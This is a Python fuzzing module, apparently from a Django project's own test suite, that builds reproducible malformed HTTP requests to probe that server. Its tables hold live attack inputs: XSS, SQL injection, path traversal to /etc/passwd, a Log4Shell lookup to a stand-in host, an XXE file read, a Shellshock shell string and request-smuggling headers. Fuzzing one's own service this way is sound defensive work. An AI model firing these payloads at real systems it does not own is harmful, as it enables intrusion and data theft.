"""Requests as nobody should send them: every address, method, person, and a slip in path, query, headers or body.

`bad_requests` draws them from a seed, so that a request that broke something can be sent again. The attack
(benchmarks/attack.py) sends them through a socket, test_bad_requests.py through Django's test client.
"""

import json
import string
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from random import Random
from urllib.parse import quote, quote_from_bytes, urlencode

METHODS = ("GET", "POST", "HEAD", "OPTIONS", "PUT", "PATCH", "DELETE", "TRACE", "PROPFIND", "get", "CONNECT")
WEIGHTS = (30, 45, 4, 3, 4, 3, 3, 2, 2, 1, 1)
CSRF_COOKIE, CSRF_FIELD = "csrftoken", "csrfmiddlewaretoken"
CSRF_CHARACTERS = 32
FORM, FILES, JSON = "application/x-www-form-urlencoded", "multipart/form-data; boundary=between", "application/json"
SWOLLEN = 300_000
"""Characters of a huge field."""
TOO_LARGE = 3_200_000
"""Bytes of a body above what the server takes."""
MANY_FIELDS = 1_100
"""More fields than the server reads."""

NASTY: tuple[str, ...] = (
    "",
    " ",
    "0",
    "-1",
    "1e309",
    "NaN",
    "-Infinity",
    "9" * 40,
    "99999999999",
    "1.5",
    "٣",
    "²",
    "null",
    "true",
    "[]",
    "{}",
    "\x00",
    "a\x00b",
    "\r\nSet-Cookie: own=1",
    "\ud800",
    "\u202egnirts",
    "\ufeff",
    "e\u0301" * 40,
    "🧶" * 60,
    "ﷺ" * 300,
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7|add:7 }}{% debug %}",
    "' OR '1'='1",
    "'; DROP TABLE people_user; --",
    "%s%n%x",
    "${jndi:ldap://elsewhere.example/a}",
    "../../../../etc/passwd",
    "=cmd|' /C calc'!A0",
    "2026-02-30",
    "0000-00-00",
    "9999-12-31T23:59",
    "10000-01-01",
    "0001-01-01T00:00",
    "2026-03-29T02:30",
    "2026-10-25T02:30",
    "-2026-01-01",
    "someone@post.example\nBcc: all@post.example",
    "x" * 5_000,
)
PATH_BITS: tuple[str, ...] = (
    "..",
    "%2e%2e",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%252e%252e%252f",
    "..%5c..%5c",
    ".git/config",
    ".env",
    "%00",
    "%0d%0aSet-Cookie:%20own=1",
    "%ff%fe",
    "%zz",
    "%",
    "%ed%a0%80",
    "%e2%80%ae",
    "'%20OR%201=1--",
    "%7B%7B7*7%7D%7D",
    "%3Cscript%3E",
    ";jsessionid=1",
    "a" * 3_000,
    "0",
    "-1",
    "1" * 60,
)
WHOLE_PATHS: tuple[str, ...] = (
    "//elsewhere.example/",
    "/static/../settings.py",
    "/static/..%2f..%2fsettings.py",
    "/static/%2e%2e/configuration.py",
    "/static//etc/passwd",
    "/static/",
    "/.git/HEAD",
    "/.env",
    "/admin/",
    "/api/",
    "/healthz/",
    "/c/",
    "/c//",
    "/c/sw.js/x",
    "/server-status",
    "/own/../caseload/",
    "*",
    "http://elsewhere.example/caseload/",
    "/caseload/%2f%2e%2e",
    "/" + "a/" * 800,
    "/account/second-step/webauthn/",
    "/account/signup/",
    "/account/password/reset/",
)
QUERIES: tuple[str, ...] = (
    "",
    "?next=https://elsewhere.example/",
    "?next=//elsewhere.example",
    "?next=javascript:alert(1)",
    "?next=%00",
    "?lang=" + "x" * 600,
    "?lang=de%00",
    "?lang=../../de",
    "?lang[]=de&lang=en",
    "?page=-1",
    "?page=1e9",
    "?session=%ff",
    "?strand=task&direction=%00&noticed=x",
    "?" + "a=1&" * 1_050,
    "?" + "&" * 1_050,  # short enough for the web server's own limit
    "?csrfmiddlewaretoken=1&_method=DELETE",
    "?%",
    "?=&=&&;;",
)
HEADERS: tuple[tuple[str, str], ...] = (
    ("Host", "elsewhere.example"),
    ("Host", "127.0.0.1:1/../"),
    ("Host", ""),
    ("Host", "127.0.0.1\x00"),
    ("X-Forwarded-Host", "elsewhere.example"),
    ("X-Forwarded-For", "127.0.0.1, 10.0.0.1"),
    ("X-Forwarded-For", "' OR 1=1 --"),
    ("X-Forwarded-For", ", ," * 300),
    ("X-Forwarded-Proto", "https"),
    ("X-Forwarded-Port", "-1"),
    ("X-Real-IP", "not an address"),
    ("Forwarded", 'for="[::1]";host=elsewhere.example;proto=javascript'),
    ("X-HTTP-Method-Override", "DELETE"),
    ("X-Original-URL", "/clinic/"),
    ("X-Rewrite-URL", "/clinic/"),
    ("X-User-ID", "1"),
    ("Remote-User", "ada"),
    ("Authorization", "Basic YWRhOmFkYQ=="),
    ("Authorization", "Bearer eyJhbGciOiJub25lIn0.e30."),
    ("Origin", "https://elsewhere.example"),
    ("Origin", "null"),
    ("Referer", "https://elsewhere.example/\xff"),
    ("Accept-Language", "de-" + "x" * 600),
    ("Accept-Language", "*;q=9,en;q=-1,,;;"),
    ("Accept-Language", "\xff\xfe,de"),
    ("Accept-Language", ",".join(f"a{number}" for number in range(600))),
    ("Accept", "application/json"),
    ("Accept", "image/../../x"),
    ("Accept-Encoding", "gzip;q=x, br, \x7f"),
    ("If-Modified-Since", "Thu, 99 Foo 0000 99:99:99 GMT"),
    ("If-None-Match", 'W/"' + "x" * 900),
    ("Range", "bytes=9-1,-,a-b"),
    ("Expect", "100-continue"),
    ("Upgrade", "websocket"),
    ("Cookie", "sessionid=../../etc/passwd"),
    ("Cookie", "sessionid=" + "a" * 32),
    ("Cookie", "sessionid=\x00; csrftoken=\xff"),
    ("Cookie", "; ;=;" * 200),
    ("Cookie", 'django_language=xx"; messages=W1siX19qc29uX21lc3NhZ2UiXV0:bad'),
    ("User-Agent", "() { :; }; /bin/sh"),
    ("Script-Name", "/elsewhere"),
    ("X" * 900, "x" * 900),
)
# What only a socket can carry: how long the body says it is, and in which pieces.
FRAMING: tuple[tuple[tuple[str, str], ...], ...] = (
    (("Content-Length", "-1"),),
    (("Content-Length", "ten"),),
    (("Content-Length", "9" * 30),),
    (("Content-Length", "3"),),
    (("Content-Length", "0"), ("Content-Length", "7")),
    (("Transfer-Encoding", "chunked"),),
    (("Transfer-Encoding", "chunked"), ("Content-Length", "5")),
    (("Transfer-Encoding", "gzip, identity, chunked"),),
    (("Transfer-Encoding", "\x0bchunked"),),
)
CONTENT_TYPES: tuple[str, ...] = (
    FORM,
    FILES,
    JSON,
    "application/x-www-form-urlencoded; charset=utf-7",
    "application/x-www-form-urlencoded; charset=nothing-known",
    "multipart/form-data",
    "multipart/form-data; boundary=" + "b" * 300,
    "multipart/form-data; boundary=\xff",
    "text/plain",
    "application/xml",
    "image/svg+xml",
    "",
    "/",
)
BODIES: tuple[bytes, ...] = (
    b"",
    b"\x00\xff\xfe" * 50,
    b"%zz=%&&=;%ff=%00",
    b"{" * 4_000,
    b'{"code": ["a", {"b": null}]}',
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>',
    b'--between\r\nContent-Disposition: form-data; name="file"; filename="../../x.csv"\r\n\r\na,b\r\n--between--\r\n',
    b'--between\r\nContent-Disposition: form-data; name="file"\r\n',
    b'--between\r\nContent-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: base64\r\n\r\n!!\r\n',
    b"--between--",
)


@dataclass(frozen=True)
class Upload:
    """A file in a form."""

    name: str
    content: bytes


@dataclass(frozen=True)
class Target:
    """One address: the path that fits the small world, what its page would send, and whom it lets in."""

    name: str
    path: str
    body: Mapping[str, object]
    welcome: tuple[str, ...]


@dataclass(frozen=True)
class BadRequest:
    """What is sent, by whom, and where it was aimed."""

    name: str
    visitor: str
    method: str
    target: bytes
    headers: tuple[tuple[str, str], ...]
    body: bytes
    framing: tuple[tuple[str, str], ...] = ()

    @property
    def path(self) -> bytes:
        return self.target.partition(b"?")[0]


def bad_requests(targets: Sequence[Target], visitors: Sequence[str], seed: int) -> Iterator[BadRequest]:
    """Without end; the same for the same seed."""
    random = Random(seed)
    while True:
        for target in random.sample(targets, len(targets)):
            yield bad_request(random, target, targets, visitors)


def bad_request(random: Random, target: Target, targets: Sequence[Target], visitors: Sequence[str]) -> BadRequest:
    """One request: most are right in most things, so that they get past the first check that would stop them."""
    method = random.choices(METHODS, WEIGHTS)[0]
    token = "".join(random.choices(string.ascii_letters + string.digits, k=CSRF_CHARACTERS))
    content_type, body = body_for(random, target, targets, token) if method not in ("GET", "HEAD") else ("", b"")
    headers = [("Cookie", f"{CSRF_COOKIE}={token}")] if random.random() < 0.9 else []
    headers += [("Content-Type", content_type)] if content_type else []
    headers += random.choices(HEADERS, k=random.choices((0, 1, 2), (6, 3, 1))[0])
    return BadRequest(
        name=target.name,
        visitor=random.choice(target.welcome if target.welcome and random.random() < 0.6 else visitors),
        method=method,
        target=path_for(random, target) + random.choices(QUERIES, (60, *[1] * (len(QUERIES) - 1)))[0].encode(),
        headers=tuple(headers),
        body=body,
        framing=random.choice(FRAMING) if random.random() < 0.04 else (),
    )


def path_for(random: Random, target: Target) -> bytes:
    """Six in ten are right; in others a piece is wrong, or the whole path is a trick."""
    kind = random.choices(("right", "piece", "added", "whole"), (60, 25, 8, 7))[0]
    if kind == "whole":
        return random.choice(WHOLE_PATHS).encode()
    if kind == "added":
        return (
            target.path.encode()
            + random.choice(("/", "/" + random.choice(PATH_BITS), random.choice(PATH_BITS))).encode()
        )
    if kind == "piece":
        pieces = target.path.split("/")
        pieces[random.randrange(len(pieces))] = wrong_piece(random)
        return "/".join(["", *pieces[1:]] if pieces[0] else pieces).encode()
    return target.path.encode()


def wrong_piece(random: Random) -> str:
    """What stands where an id or a token should: a trick, something nasty, or one that fits and is nobody's."""
    fitting = "".join(random.choices(string.ascii_letters + string.digits + "-_", k=random.choice((16, 32))))
    nasty = quote(random.choice(NASTY)[:400], errors="replace")
    return random.choice((random.choice(PATH_BITS), nasty, fitting, fitting))


def body_for(random: Random, target: Target, targets: Sequence[Target], token: str) -> tuple[str, bytes]:
    """A content type and a body: mostly the page's own form with a few fields gone wrong."""
    kind = random.choices(("form", "files", "json", "odd", "many", "large"), (62, 14, 6, 15, 2, 1))[0]
    if kind == "odd":
        return random.choice(CONTENT_TYPES), random.choice(BODIES)
    if kind == "large":
        return random.choice((FORM, FILES)), b"a=" + b"x" * TOO_LARGE
    if kind == "many":
        return FORM, "&".join(f"f{number}=1" for number in range(MANY_FIELDS)).encode()
    pairs = changed(random, target, targets)
    pairs.append((CSRF_FIELD, token if random.random() < 0.95 else "forged"))
    if kind == "json":
        return JSON, json.dumps({name: as_text(value) for name, value in pairs}).encode("utf-8", "replace")
    uploads = any(isinstance(value, Upload) for _name, value in pairs)
    return (FILES, as_parts(pairs)) if uploads or kind == "files" else (FORM, as_form(pairs))


def changed(random: Random, target: Target, targets: Sequence[Target]) -> list[tuple[str, object]]:
    """The fields of a form after up to four slips: wrong, missing, repeated, foreign, swapped."""
    pairs = pairs_of(target.body)
    for _slip in range(random.choices((0, 1, 2, 4), (3, 5, 3, 2))[0]):
        foreign = random.choice(pairs_of(random.choice(targets).body) or [("a", "1")])
        place = random.randrange(len(pairs)) if pairs else None
        slip = random.choice(("nasty", "nasty", "gone", "twice", "foreign", "swapped", "huge", "file"))
        if place is None or slip == "foreign":
            pairs.append(foreign)
        elif slip == "gone":
            pairs.pop(place)
        elif slip == "twice":
            pairs.append((pairs[place][0], random.choice(NASTY)))
        else:
            pairs[place] = (pairs[place][0], wrong_value(random, slip, foreign[1]))
    return pairs


def wrong_value(random: Random, slip: str, foreign: object) -> object:
    if slip == "swapped":
        return foreign
    if slip == "huge":
        return random.choice(("x", "ß", "1", "\n")) * random.choice((201, 5_000, SWOLLEN))
    if slip == "file":
        return Upload(random.choice(NASTY)[:80], random.choice(BODIES))
    return random.choice(NASTY)


def pairs_of(body: Mapping[str, object]) -> list[tuple[str, object]]:
    found: list[tuple[str, object]] = []
    for name, value in body.items():
        found += [(name, each) for each in value] if isinstance(value, list | tuple) else [(name, value)]
    return found


def as_text(value: object) -> str:
    return value.content.decode("latin-1") if isinstance(value, Upload) else str(value)


def as_form(pairs: Sequence[tuple[str, object]]) -> bytes:
    sent = [(name, as_text(value).encode("utf-8", "surrogatepass")) for name, value in pairs]
    return urlencode(
        sent, quote_via=lambda text, *_rest: quote_from_bytes(text.encode() if isinstance(text, str) else text)
    ).encode()


def as_parts(pairs: Sequence[tuple[str, object]]) -> bytes:
    """A multipart body; a file's name goes in as it is."""
    parts = []
    for name, value in pairs:
        told, content = f'form-data; name="{name}"', value
        if isinstance(value, Upload):
            told, content = f'{told}; filename="{value.name}"', value.content
        content = content if isinstance(content, bytes) else as_text(content).encode("utf-8", "surrogatepass")
        parts.append(
            b"--between\r\nContent-Disposition: " + told.encode("utf-8", "surrogatepass") + b"\r\n\r\n" + content
        )
    return b"\r\n".join([*parts, b"--between--\r\n"])
